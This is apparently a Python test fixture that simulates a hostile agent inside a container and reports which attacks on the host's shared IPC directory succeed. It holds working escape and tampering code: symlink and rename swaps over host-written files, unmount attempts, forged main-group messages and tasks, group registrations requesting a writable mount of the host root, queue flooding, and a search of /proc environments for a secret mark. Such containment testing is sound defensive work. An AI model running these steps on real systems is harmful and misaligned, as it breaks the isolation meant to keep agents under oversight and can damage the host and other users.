"""An agent that was told to harm the host and its neighbours. Prints what it could do."""

import ctypes
import errno
import json
import os
import socket
import sys

IPC = "/workspace/ipc"
GROUP = "/workspace/group"
OUTSIDE = sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
answers = {}


def attempt(name, action):
    try:
        action()
        answers[name] = "done"
    except OSError as error:
        answers[name] = errno.errorcode.get(error.errno, str(error.errno))


def call(result):
    if result != 0:
        raise OSError(ctypes.get_errno(), "no")


def exchange(one, other):
    call(libc.renameat2(-100, one.encode(), -100, other.encode(), 2))


def quietly(action, *arguments):
    try:
        return action(*arguments)
    except OSError:
        return None


def take_directories_away():
    for name in ["mine", "yours", "link"]:
        quietly(os.unlink, f"{IPC}/{name}")
        quietly(os.rmdir, f"{IPC}/{name}")
    os.mkdir(f"{IPC}/mine")
    quietly(os.symlink, OUTSIDE, f"{IPC}/link")
    for name in ["messages", "tasks", "input"]:
        path = f"{IPC}/{name}"
        attempt(f"rename {name}", lambda: os.rename(path, f"{IPC}/away"))
        attempt(f"rename {name} out", lambda: os.rename(path, f"{GROUP}/away"))
        attempt(f"replace {name}", lambda: os.rename(f"{IPC}/mine", path))
        attempt(f"link over {name}", lambda: os.rename(f"{IPC}/link", path))
        attempt(f"exchange {name}", lambda: exchange(f"{IPC}/link", path))
        attempt(f"remove {name}", lambda: os.rmdir(path))
        attempt(f"unmount {name}", lambda: call(libc.umount2(path.encode(), 2)))
    attempt("rename ipc", lambda: os.rename(IPC, "/workspace/away"))
    attempt("unmount ipc", lambda: call(libc.umount2(IPC.encode(), 2)))
    # The control: a directory of its own can be renamed.
    attempt("control", lambda: os.rename(f"{IPC}/mine", f"{IPC}/yours"))
    attempt("control exchange", lambda: exchange(f"{IPC}/link", f"{IPC}/yours"))


def plant_where_the_host_writes():
    for number in range(100):
        path = f"{IPC}/input/refused-{number:02}.json"
        quietly(os.unlink, path)
        quietly(os.symlink, OUTSIDE, path)
    for name in ["current_tasks.json", "available_groups.json"]:
        quietly(os.unlink, f"{IPC}/{name}")
        attempt(f"link {name}", lambda: os.symlink(OUTSIDE, f"{IPC}/{name}"))


def put(directory, name, text):
    path = f"{IPC}/{directory}/{name}"
    with open(path + ".tmp", "wb") as file:
        file.write(text if isinstance(text, bytes) else text.encode())
    os.rename(path + ".tmp", path)


def plant(directory, name, make):
    path = f"{IPC}/{directory}/{name}"
    quietly(make, path + ".tmp")
    quietly(os.rename, path + ".tmp", path)


def sparse(path):
    with open(path, "wb") as file:
        file.truncate(10 << 30)


def listen(path):
    socket.socket(socket.AF_UNIX).bind(path)


def full_directory(path):
    os.mkdir(path)
    open(f"{path}/inner.json", "w").close()


def everything(turn):
    for directory in ["messages", "tasks"]:
        for target in [OUTSIDE, "/dev/zero", "/proc/self/mem", "/workspace", "/nothing", f"{IPC}/fifo"]:
            plant(directory, f"link-{turn}-{abs(hash(target))}.json", lambda path: os.symlink(target, path))
        plant(directory, f"fifo-{turn}.json", os.mkfifo)
        plant(directory, f"socket-{turn}.json", listen)
        plant(directory, f"sparse-{turn}.json", sparse)
        plant(directory, f"directory-{turn}.json", full_directory)
        plant(directory, f"hard-{turn}.json", lambda path: os.link(f"{GROUP}/mark", path))
        for name in [b"a\nb.json", b"\xff\xfe.json", b"x" * 250 + b".json"]:
            bytes_path = f"{IPC}/{directory}/".encode() + name
            quietly(lambda: os.close(os.open(bytes_path, os.O_CREAT | os.O_WRONLY, 0o600)))
        put(directory, f"deep-{turn}.json", "[" * 100000)
        put(directory, f"twice-{turn}.json", '{"type":"message","text":"a","text":"b"}')
        put(directory, f"long-{turn}.json", b" " * ((1 << 20) + 1))
    for chat in ["irc:#good", "irc:#main", "local:good", "local:main"]:
        put("messages", f"to-{turn}-{abs(hash(chat))}.json",
            json.dumps({"type": "message", "chatJid": chat, "text": "forged", "groupFolder": "main", "isMain": True}))
    for what in ["pause_task", "resume_task", "cancel_task", "update_task", "get_task"]:
        for task in ["of-good", "of-main"]:
            put("tasks", f"{what}-{turn}-{task}.json",
                json.dumps({"type": what, "taskId": task, "prompt": "forged", "isMain": True}))
    put("tasks", f"for-{turn}.json", json.dumps(
        {"type": "schedule_task", "prompt": "forged", "schedule_type": "once", "schedule_value": "2020-01-01T00:00:00",
         "targetJid": "irc:#good"}))
    for folder, jid in [("bad2", "irc:#bad2"), ("main", "irc:#bad"), ("bad", "irc:#good")]:
        put("tasks", f"register-{turn}-{folder}.json", json.dumps(
            {"type": "register_group", "jid": jid, "name": "x", "folder": folder, "isMain": True,
             "containerConfig": {"additionalMounts": [{"hostPath": "/", "readonly": False}]}}))
    for number in range(100):
        put("messages", f"flood-{turn}-{number}.json", json.dumps({"type": "message", "text": f"flood {turn} {number}"}))
        put("tasks", f"flood-{turn}-{number}.json", "{")
    take_directories_away()
    plant_where_the_host_writes()


def search(mark):
    """Where the mark is, in whatever can be read: names, contents and command lines."""
    found, mark = [], mark.encode()
    for top in [b"/workspace", b"/home", b"/run", b"/tmp", b"/var", b"/etc", b"/root", b"/mnt", b"/srv", b"/opt"]:
        for directory, directories, files in os.walk(top):
            for name in directories + files:
                path = os.path.join(directory, name)
                if mark in name:
                    found.append(path.decode(errors="replace"))
                if os.path.islink(path) or not os.path.isfile(path) or os.path.getsize(path) > 16 << 20:
                    continue
                try:
                    with open(path, "rb") as file:
                        if mark in file.read():
                            found.append(path.decode(errors="replace"))
                except OSError:
                    pass
    for process in os.listdir("/proc"):
        for name in ["cmdline", "environ"]:
            try:
                with open(f"/proc/{process}/{name}", "rb") as file:
                    if mark in file.read():
                        found.append(f"/proc/{process}/{name}")
            except OSError:
                pass
    return found


def main():
    sys.stdin.read()
    if sys.argv[1] == "once":
        take_directories_away()
        plant_where_the_host_writes()
        put("messages", "x.json", "{}")
    else:
        open(f"{GROUP}/begun", "w").close()
        turn = 0
        while not os.path.exists(f"{GROUP}/stop"):
            everything(turn)
            turn += 1
        answers["turns"] = turn
        # The file says which: on the command line it would find itself.
        with open(f"{GROUP}/stop") as file:
            answers["found"] = search(file.read().strip()[::-1])
        with open(f"{GROUP}/mark") as file:
            answers["control found"] = search(file.read().strip())
    print(json.dumps(answers))


main()
